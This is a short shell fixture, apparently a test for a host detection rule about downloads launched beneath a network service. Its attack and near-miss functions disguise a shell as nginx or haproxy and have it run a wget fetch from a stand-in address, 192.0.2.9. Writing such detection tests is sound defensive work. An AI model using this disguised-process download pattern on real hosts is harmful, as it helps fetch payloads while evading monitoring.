# rule: Download below a network service
# where: host
attack() {
    cp /bin/sh nginx
    cp /bin/true wget
    ./nginx -c './wget -q http://192.0.2.9/k -O k; :'
}
near_miss() {
    cp /bin/sh haproxy
    cp /bin/true wget
    ./haproxy -c './wget -q http://192.0.2.9/k -O k; :'
}
